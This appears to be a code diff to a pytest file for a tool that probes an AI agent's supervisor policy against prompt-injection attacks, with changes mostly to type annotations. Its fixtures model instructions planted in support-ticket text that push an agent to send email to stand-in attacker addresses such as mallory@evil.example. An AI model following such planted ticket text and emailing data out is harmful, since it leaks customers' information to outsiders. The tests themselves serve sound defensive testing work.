@@ -13,6 +13,7 @@ import json
 import shutil
 from pathlib import Path
 from types import SimpleNamespace
+from typing import Any
 from xml.etree import ElementTree as ET
 
 import pytest
@@ -23,8 +24,8 @@ from graphs.cli_probe import probe_command
 from graphs.probe import declaration, lifted, probe
 from graphs.probe_findings import blame, findings_of
 from graphs.probe_report import AttackResult, Gate
-from policies.attacks import Attack
-from policies.supervisor import ArgSource, Requested
+from policies.attacks import Attack, Shape
+from policies.supervisor import ArgSource, Requested, SupervisorPolicy
 
 ROOT = Path(__file__).resolve().parent.parent
 POLICY = support_desk.policy
@@ -39,21 +40,21 @@ policy = careful.model_copy(update={'rules': {**careful.rules, 'send_email': rul
 CAREFUL = "from demo_tools.support_desk import tools, tasks, policy\n"
 
 
-def _rules(tool: str, **update) -> object:
+def _rules(tool: str, **update: Any) -> SupervisorPolicy:
     return POLICY.model_copy(
         update={"rules": {**POLICY.rules, tool: POLICY.rules[tool].model_copy(update=update)}}
     )
 
 
 def _attack(
-    call: dict, arg: str, shape: str = "planted_instruction", request: str = "Read ticket T-2."
+    call: dict, arg: str, shape: Shape = "planted_instruction", request: str = "Read ticket T-2."
 ) -> Attack:
     """An attack planted in a ticket's text; a refused request plants nothing (the request is it)."""
     if shape == "negated_request":
-        return Attack("t-1", "t", shape, "", (), None, call, -1, request, arg, call["args"].get(arg))  # type: ignore[arg-type]
+        return Attack("t-1", "t", shape, "", (), None, call, -1, request, arg, call["args"].get(arg))
     return Attack(
         "t-1", "t", shape, "read_ticket", ("text",), "planted", call, 0, request, arg, call["args"].get(arg)
-    )  # type: ignore[arg-type]
+    )
 
 
 def _ran(
@@ -131,8 +132,9 @@ def test_a_missing_rule_a_missing_limit_and_a_refused_request_are_named():
 
 
 def test_attacks_through_one_hole_are_one_finding_keyed_without_seed_text():
-    call = {"name": "send_email", "args": {"to": "mallory@evil.example", "subject": "s", "body": "b"}}
-    other = {**call, "args": {**call["args"], "to": "billing@attacker-mail.example"}}
+    args = {"to": "mallory@evil.example", "subject": "s", "body": "b"}
+    call = {"name": "send_email", "args": args}
+    other = {"name": "send_email", "args": {**args, "to": "billing@attacker-mail.example"}}
     careless = _rules("send_email", arg_sources=[ArgSource(arg="to", sources=["any"])])
     said = {"to": "appears only in read_ticket (step 1)"}
     results = [
@@ -253,7 +255,7 @@ def test_the_trust_pass_reports_a_bypass_with_its_declaration_and_fails_only_str
 # -- the CLI and its CI files ---------------------------------------------------------------------
 
 
-def _cli(file: Path, **over) -> tuple[int, str]:
+def _cli(file: Path, **over: Any) -> tuple[int, str]:
     args = argparse.Namespace(
         file=str(file),
         seed=0,
